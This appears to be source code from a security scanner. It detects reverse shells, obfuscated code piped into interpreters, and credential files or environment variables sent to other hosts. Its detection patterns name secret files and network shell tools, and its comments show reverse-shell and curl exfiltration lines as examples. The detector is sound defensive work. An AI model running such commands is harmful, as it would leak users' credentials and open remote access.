import type { FindingDraft } from '../../findings/index.ts';
import { weakness } from '../patterns/weakness.ts';
import { pipedIntoInterpreters, substitutedIntoCode } from './downloads.ts';
import { DOWNLOADERS, SHELLS } from './programs.ts';
import type { Recipe, RecipeCommand } from './recipe.ts';
import type { FindInRecipe } from './weakness-finder.ts';

/** Files that hold what lets somebody in, as a part of a path. */
const CREDENTIAL_FILE =
  /(?:^|[/@=~])(?:\.ssh\/\S*|id_(?:rsa|dsa|ecdsa|ed25519)|\.aws\/(?:credentials|config)|\.npmrc|\.pypirc|\.netrc|\.git-credentials|\.docker\/config\.json|\.kube\/config|\.gnupg\/\S*|etc\/shadow|proc\/(?:self|\d+|\$\$)\/environ|\.env(?:\.\w+)?)(?=$|[\s;,)"'])/;

const PRINTS_ENVIRONMENT: ReadonlySet<string> = new Set(['env', 'printenv', 'set', 'export', 'declare']);
const SENDERS: ReadonlySet<string> = new Set([...DOWNLOADERS, 'nc', 'ncat', 'netcat', 'socat']);

/** CODE92, CODE94 and CODE95: what honest recipes do not do, and stolen accounts and obeyed orders do. */
export const findHostileCode: FindInRecipe = (recipe) => [
  ...shellsOutward(recipe),
  ...hiddenCode(recipe),
  ...secretsSentAway(recipe),
];

/** `bash -i >& /dev/tcp/host/port`: the shell's own network redirection. Waiting for a port does not start a shell. */
function shellsOutward({ commands }: Recipe): readonly FindingDraft[] {
  return commands
    .filter(
      ({ program, command }) =>
        SHELLS.has(program) &&
        command.redirects.some(({ target }) => /^["']?\/dev\/(?:tcp|udp)\//.test(target?.source ?? '')),
    )
    .map(({ program, place }) =>
      weakness('CODE92', { message: `\`${program}\` reads its commands from the network`, place, subject: 'dev-tcp' }),
    );
}

function hiddenCode(recipe: Recipe): readonly FindingDraft[] {
  const passages = [...pipedIntoInterpreters(recipe, decodes), ...substitutedIntoCode(recipe, decodes)];
  return passages.map(({ source, sink }) =>
    weakness('CODE94', {
      message: `\`${sink.program}\` runs what \`${source.program}\` decodes: nobody who reads the file sees what is run`,
      place: source.place,
      subject: `${source.program} ${sink.program}`,
    }),
  );
}

function decodes({ program, line }: RecipeCommand): boolean {
  if (program === 'base64' || program === 'base32') return /(?:^| )(?:-[a-z]*[dD]|--decode)(?= |$)/.test(line);
  if (program === 'xxd') return /(?:^| )-[a-z]*r/.test(line);
  return program === 'rev' || (program === 'openssl' && /\b(?:enc|base64)\b.* -d\b/.test(line));
}

function secretsSentAway({ commands }: Recipe): readonly FindingDraft[] {
  return commands.flatMap((sender): readonly FindingDraft[] => {
    if (!SENDERS.has(sender.program)) return [];
    const what = attachedFile(sender) ?? readInside(sender, commands) ?? pipedIn(sender, commands);
    if (what === undefined) return [];
    const message = `\`${sender.program}\` sends ${what} to another host`;
    return [weakness('CODE95', { message, place: sender.place, subject: `${sender.program} ${what}` })];
  });
}

/** `--data @FILE`, `-F name=@FILE`, `-T FILE`. */
function attachedFile({ arguments: words }: RecipeCommand): string | undefined {
  const found = words.find(
    ({ text }, index) =>
      CREDENTIAL_FILE.test(text) &&
      (text.includes('@') ||
        /^(?:-T|--upload-file|--post-file|--body-file)$/.test(words[index - 1]?.text ?? '') ||
        /^--(?:post|body)-file=/.test(text)),
  );
  return found && `\`${CREDENTIAL_FILE.exec(found.text)?.[0].replace(/^[@=]/, '')}\``;
}

/** `curl -d "$(env)"`, `curl "https://…?$(cat ~/.ssh/id_rsa)"`. */
function readInside({ arguments: words, script }: RecipeCommand, commands: Recipe['commands']): string | undefined {
  const spans = words.flatMap(({ expansions }) => expansions.map(({ span }) => span));
  const inside = commands.filter(
    (other) =>
      other.script === script &&
      spans.some(({ start, end }) => start <= other.command.span.start && other.command.span.end <= end),
  );
  return inside.map(secretOf).find((what) => what !== undefined);
}

function pipedIn({ command, script }: RecipeCommand, commands: Recipe['commands']): string | undefined {
  const { id, position } = command.pipeline;
  const before = commands.filter(
    (other) =>
      other.script === script && other.command.pipeline.id === id && other.command.pipeline.position < position,
  );
  return before.map(secretOf).find((what) => what !== undefined);
}

/** What a command prints that nobody else should have. */
function secretOf({ program, line, arguments: words }: RecipeCommand): string | undefined {
  if (PRINTS_ENVIRONMENT.has(program) && (words.length === 0 || /^-p$|^-0$/.test(line))) return 'the whole environment';
  if (!/^(?:cat|base64|head|tail|tar|zip|gzip|xxd|od)$/.test(program)) return undefined;
  const file = words.map(({ text }) => CREDENTIAL_FILE.exec(text)?.[0]).find((text) => text !== undefined);
  return file && `\`${file}\``;
}
